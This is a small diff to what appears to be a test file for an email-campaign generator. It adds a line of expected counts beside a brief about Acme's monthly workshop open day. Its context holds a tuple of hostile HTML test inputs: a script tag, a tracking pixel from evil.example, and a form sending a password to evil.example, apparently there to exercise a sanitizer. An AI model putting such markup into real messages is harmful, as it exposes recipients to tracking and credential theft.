@@ -41,6 +41,7 @@ BRIEF = Brief(
     facts=("Acme opens its workshop to visitors on the first Friday of each month.",),
 )  # fmt: skip
 SUBJECTS = ("Come and see our workshop", "A Friday in the workshop", "An invitation from Acme")
+BLOCKED, WARNED, WRITTEN, EXCLUDED = 2, 5, 24, 5  # of the campaign that waits
 HOSTILE = (
     "<script>alert(1)</script><img src=https://evil.example/pixel.gif>"
     "<form action=https://evil.example><input name=password></form>"
